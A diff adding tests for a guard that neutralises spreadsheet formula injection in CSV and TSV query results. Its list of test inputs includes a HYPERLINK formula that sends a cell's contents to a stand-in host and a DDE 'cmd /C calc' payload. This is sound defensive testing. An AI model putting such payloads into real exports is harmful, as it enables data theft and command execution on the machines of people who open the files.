@@ -88,6 +88,42 @@ def test_numbers_stay(number):
     assert (guard(number), guard.cells) == (number, 0)
 
 
+XSD = "http://www.w3.org/2001/XMLSchema#"
+NO_NUMBERS = [
+    ('=HYPERLINK("http://x.example/?"&A1,"open")', "http://e/note"),
+    ("=1+1", XSD + "anyURI"),
+    ("@SUM(1+1)", "http://www.w3.org/1999/02/22-rdf-syntax-ns#HTML"),
+    ("=1+1", XSD + "integer"),
+    ("-1+cmd|' /C calc'!A0", XSD + "decimal"),
+    ("+1e5e", XSD + "double"),
+    ("-٣", XSD + "integer"),
+    ("-0044-03-15", XSD + "date"),
+    ("-P1D", XSD + "duration"),
+    ("a;=1+1", "http://e/note"),
+]
+NUMBERS = [("-5", "integer"), ("+5", "int"), ("-1.5E-3", "double"), ("-.5", "decimal")]
+
+
+@pytest.mark.parametrize(("text", "datatype"), NO_NUMBERS)
+def test_a_datatype_makes_no_number_of_a_text(text, datatype):
+    one = Answer("select", ("a",), ((Term("literal", text, datatype),),))
+    guard = results.Guard()
+    written = results.write(one, "csv", {}, guard=guard)
+    assert guard.cells == 1
+    for mark in ",;\t":
+        assert dangerous(written, mark) == []
+    written = results.write(one, "tsv", {})
+    assert not [c for c in re.split("[\t;\n]", written) if c.strip('"').startswith(tuple(STARTS))]
+    (row,) = ox.parse_query_results(written, format=ox.QueryResultsFormat.TSV)
+    assert row[0].value == text
+
+
+@pytest.mark.parametrize(("text", "datatype"), NUMBERS)
+def test_a_number_by_its_datatype_and_its_text_stays(text, datatype):
+    one = Answer("select", ("a",), ((Term("literal", text, XSD + datatype),),))
+    assert results.write(one, "csv", {}) == f"a\r\n{text}\r\n"
+
+
 @pytest.fixture(scope="module")
 def folder(make_case):
     folder = make_case(**tables(TEXTS))
